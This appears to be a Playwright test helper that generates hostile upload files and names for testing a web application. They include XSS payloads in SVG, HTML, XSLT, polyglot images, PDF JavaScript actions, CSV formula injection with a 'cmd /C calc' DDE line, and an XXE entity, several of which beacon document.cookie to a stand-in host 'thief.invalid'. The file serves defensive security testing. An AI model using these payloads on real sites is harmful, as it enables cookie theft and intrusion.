// What somebody uploads, or types into a name, who wants their script to run in another person's browser; and the trap
// that notices when it does. Everything here is harmless: it calls a function and asks an address that nobody answers.
import { crc32, deflateSync } from 'node:zlib'
import type { BrowserContext, Page } from '@playwright/test'
import { png } from './pictures'

/** Where a stolen cookie would go. */
export const THIEF = 'http://thief.invalid'
const COOKIE = 'canary'

/** A script that tells of itself, and carries the cookie away. */
const script = (where: string) => `try{window.__fired('${where} '+document.cookie)}catch(e){};new Image().src='${THIEF}/${where}?'+document.cookie`

/** A word as somebody would write it who hopes that it becomes part of a page. */
export const word = (where: string) => `${where} "><img data-hostile src=x onerror=__fired(1)>`
/** The same for places with other ways out. */
export const closing = (where: string) => `</title></textarea></script><script data-hostile>${script(where)}</script><!-- \${__fired('${where}')} {{__fired('${where}')}}`

export type Trap = {
  /** What ran, though it must not. */
  fired: string[]
  /** What was asked of anybody but the server. */
  outside: string[]
  /** What a policy of the browser stopped: it had got into a page. */
  stopped: string[]
}

/** Puts the canary into a browser, and notices what reaches it. */
export async function setTrap(context: BrowserContext, server: string, trap: Trap) {
  await context.addCookies([{ name: COOKIE, value: 'sings', url: server, httpOnly: false }])
  await context.exposeBinding('__fired', ({ frame }, what: string) => void trap.fired.push(`${frame.url()}: ${what}`))
  const own = new URL(server).host
  const watch = (page: Page) => {
    page.on('dialog', (dialog) => {
      trap.fired.push(`${page.url()}: a dialog, ${dialog.message()}`)
      // The browser's own readers close theirs by themselves.
      dialog.dismiss().catch(() => undefined)
    })
    page.on('console', (message) => {
      if (/Content Security Policy|because its MIME type/.test(message.text())) trap.stopped.push(`${page.url()}: ${message.text()}`)
    })
  }
  context.on('request', (request) => {
    const { protocol, host } = new URL(request.url())
    if (/^(https?|wss?|ftp):$/.test(protocol) && host !== own) trap.outside.push(request.url())
  })
  context.on('page', watch)
  for (const page of context.pages()) watch(page)
}

/** How many elements of a page come from what somebody typed. */
export const smuggled = (page: Page) => page.locator('[data-hostile], [onerror], [onload], script:not([src])').count()

export type Hostile = { name: string; bytes: Buffer }

/** Files that bring a script along, each in a way of its own. */
export function corpus(): Hostile[] {
  const text = (name: string, content: string): Hostile => ({ name, bytes: Buffer.from(content, 'utf8') })
  const page = (where: string) => `<!doctype html><html><body onload="${script(where)}"><script>${script(where)}</script><img src=x onerror="${script(where)}"><iframe srcdoc="<script>parent.__fired('${where}')</script>"></iframe></body></html>`
  return [
    text(
      'scripted.svg',
      `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="90" height="90" onload="${script('svg-onload')}"><script>${script('svg')}</script><a xlink:href="javascript:${script('svg-link')}"><rect width="90" height="90"/></a><foreignObject width="90" height="90"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="${script('svg-foreign')}"/></body></foreignObject><image href="${THIEF}/svg.png" width="9" height="9"/></svg>`,
    ),
    text('page.html', page('html')),
    text('page.xhtml', `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><script>${script('xhtml')}</script></body></html>`),
    text('page.shtml', page('shtml')),
    text(
      'letter.mhtml',
      ['MIME-Version: 1.0', 'Content-Type: multipart/related; boundary="b"; type="text/html"', '', '--b', 'Content-Type: text/html', 'Content-Location: http://localhost/', '', page('mhtml'), '--b--', ''].join('\r\n'),
    ),
    text('letter.eml', ['From: a@b.example', 'Subject: x', 'Content-Type: text/html', '', page('eml')].join('\r\n')),
    text(
      'sheet.xml',
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><!DOCTYPE d [<!ENTITY x SYSTEM "${THIEF}/entity">]><d><xsl:stylesheet id="s" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body><script>${script('xslt')}</script></body></html></xsl:template></xsl:stylesheet><x:script xmlns:x="http://www.w3.org/1999/xhtml">${script('xml')}</x:script>&x;</d>`,
    ),
    text('style.xsl', `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><script>${script('xsl')}</script></xsl:template></xsl:stylesheet>`),
    text('style.css', `@import url("${THIEF}/style.css");body{background:url("${THIEF}/style.png")}`),
    text('notes.txt', page('txt')),
    text('script.txt', script('txt-script')),
    text('seven.txt', `+ADw-script+AD4-${script('utf7')}+ADw-/script+AD4-`),
    { name: 'wide.txt', bytes: Buffer.from(`\ufeff${page('utf16')}`, 'utf16le') },
    text('model.ifc', `ISO-10303-21;${page('ifc')}`),
    text('plan.dxf', `0\nSECTION\n${page('dxf')}`),
    text('list.csv', `Number,Title,Load\r\n"=HYPERLINK(""${THIEF}/?""&A1,""open"")",+1+cmd|' /C calc'!A0,@SUM(A1)\r\n"<img data-hostile src=x onerror=""${script('csv')}"">","<script>${script('csv')}</script>",3\r\n`),
    text('nothing.unheard', page('unknown')),
    text('noextension', page('noextension')),
    // A picture to whoever reads its first bytes, a script to whoever does not.
    { name: 'both.gif', bytes: Buffer.concat([Buffer.from('GIF89a/*\0\0\0\0*/=1;', 'latin1'), Buffer.from(script('gif'))]) },
    { name: 'both.bmp', bytes: Buffer.concat([Buffer.from('BM/*\0\0\0\0\0\0\0\0*/=1;', 'latin1'), Buffer.from(script('bmp'))]) },
    { name: 'told.png', bytes: withText(png(40), closing('png')) },
    { name: 'told.jpg', bytes: jpeg(closing('exif')) },
    { name: 'acting.pdf', bytes: pdf() },
    // A page to whoever looks at its beginning, a drawing to whoever looks for its header.
    { name: 'both.pdf', bytes: Buffer.concat([Buffer.from(`<html><script>${script('pdf-html')}</script>\n`), pdf()]) },
    { name: `${word('name')}.pdf`, bytes: pdf() },
    { name: "'-window.__fired('quote')-'.pdf", bytes: pdf() },
    { name: 'site plan \u202efdp.html', bytes: Buffer.from(page('turned')) },
    { name: 'disguised.pdf', bytes: Buffer.from(page('disguised')) },
    { name: 'disguised.png', bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="window.__fired(1)"/>') },
    { name: 'archive.zip', bytes: zip('index.html', page('zip')) },
    { name: 'letter.docx', bytes: zip('word/document.xml', page('docx')) },
  ]
}

/** A drawing with every kind of act that the format knows, at its opening, its page, and the links on it. */
function pdf(): Buffer {
  const act = (code: string) => `<< /S /JavaScript /JS (${code.replace(/[()\\]/g, (letter) => `\\${letter}`)}) >>`
  const js = act(`app.alert('pdf');this.getURL('${THIEF}/pdf');${script('pdf')}`)
  const link = (action: string, at: number) => `<< /Type /Annot /Subtype /Link /Rect [0 ${at} 595 ${at + 150}] /Border [0 0 2] /A ${action} >>`
  const content = 'BT /F 24 Tf 60 700 Td (Press anywhere) Tj ET'
  const bodies = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${js} /AA << /WC ${js} /DP ${js} >> /Names << /JavaScript << /Names [(a) ${js}] >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /AA << /O ${js} >> /Resources << /Font << /F 5 0 R >> >> /Annots [${[
      link(js, 0),
      link(`<< /S /URI /URI (javascript:${script('pdf-link').replace(/[()\\]/g, (letter) => `\\${letter}`)}) >>`, 150),
      link(`<< /S /URI /URI (${THIEF}/link) >>`, 300),
      link(`<< /S /Launch /F (calc.exe) >>`, 450),
      link(`<< /S /SubmitForm /F (${THIEF}/form) >>`, 600),
    ].join(' ')}] >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Title (${word('pdf-title').replace(/[()\\]/g, (letter) => `\\${letter}`)}) >>`,
  ]
  let file = '%PDF-1.7\n'
  const offsets = bodies.map((body, index) => {
    const at = file.length
    file += `${index + 1} 0 obj\n${body}\nendobj\n`
    return at
  })
  const table = offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')
  return Buffer.from(`${file}xref\n0 ${bodies.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${bodies.length + 1} /Root 1 0 R /Info 6 0 R >>\nstartxref\n${file.length}\n%%EOF\n`, 'latin1')
}

/** A picture with a remark behind its head. */
function withText(picture: Buffer, remark: string): Buffer {
  const body = Buffer.from(`tEXtComment\0${remark}`, 'latin1')
  const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(body.length - 4)
  sum.writeUInt32BE(crc32(body))
  const head = 8 + 25
  return Buffer.concat([picture.subarray(0, head), length, body, sum, picture.subarray(head)])
}

/** The smallest grey picture that readers take, with a remark of its camera and one of its writer. */
function jpeg(remark: string): Buffer {
  const segment = (mark: number, body: Buffer) => {
    const head = Buffer.from([0xff, mark, 0, 0])
    head.writeUInt16BE(body.length + 2, 2)
    return Buffer.concat([head, body])
  }
  const text = Buffer.from(`${remark}\0`, 'latin1')
  const tiff = Buffer.alloc(26)
  tiff.write('II*\0', 'latin1')
  tiff.writeUInt32LE(8, 4)
  tiff.writeUInt16LE(1, 8)
  tiff.writeUInt16LE(0x010e, 10)
  tiff.writeUInt16LE(2, 12)
  tiff.writeUInt32LE(text.length, 14)
  tiff.writeUInt32LE(26, 18)
  const codes = Buffer.from([0, 1, ...Array<number>(15).fill(0), 0])
  return Buffer.concat([
    Buffer.from([0xff, 0xd8]),
    segment(0xe1, Buffer.concat([Buffer.from('Exif\0\0', 'latin1'), tiff, text])),
    segment(0xfe, text),
    segment(0xdb, Buffer.concat([Buffer.from([0]), Buffer.alloc(64, 1)])),
    segment(0xc0, Buffer.from([8, 0, 8, 0, 8, 1, 1, 0x11, 0])),
    segment(0xc4, codes),
    segment(0xc4, Buffer.concat([Buffer.from([0x10]), codes.subarray(1)])),
    segment(0xda, Buffer.from([1, 1, 0, 0, 63, 0])),
    Buffer.from([0x3f, 0xff, 0xd9]),
  ])
}

/** An archive of one file. */
function zip(name: string, content: string): Buffer {
  const [path, plain] = [Buffer.from(name), Buffer.from(content)]
  const packed = deflateSync(plain).subarray(2, -4)
  const facts = Buffer.alloc(26)
  facts.writeUInt16LE(20, 0)
  facts.writeUInt16LE(8, 4)
  facts.writeUInt32LE(crc32(plain), 10)
  facts.writeUInt32LE(packed.length, 14)
  facts.writeUInt32LE(plain.length, 18)
  facts.writeUInt16LE(path.length, 22)
  const local = Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), facts, path, packed])
  const central = Buffer.concat([Buffer.from('PK\x01\x02\x14\0', 'latin1'), facts, Buffer.alloc(14), path])
  const end = Buffer.alloc(22)
  end.write('PK\x05\x06', 'latin1')
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(central.length, 12)
  end.writeUInt32LE(local.length, 16)
  return Buffer.concat([local, central, end])
}
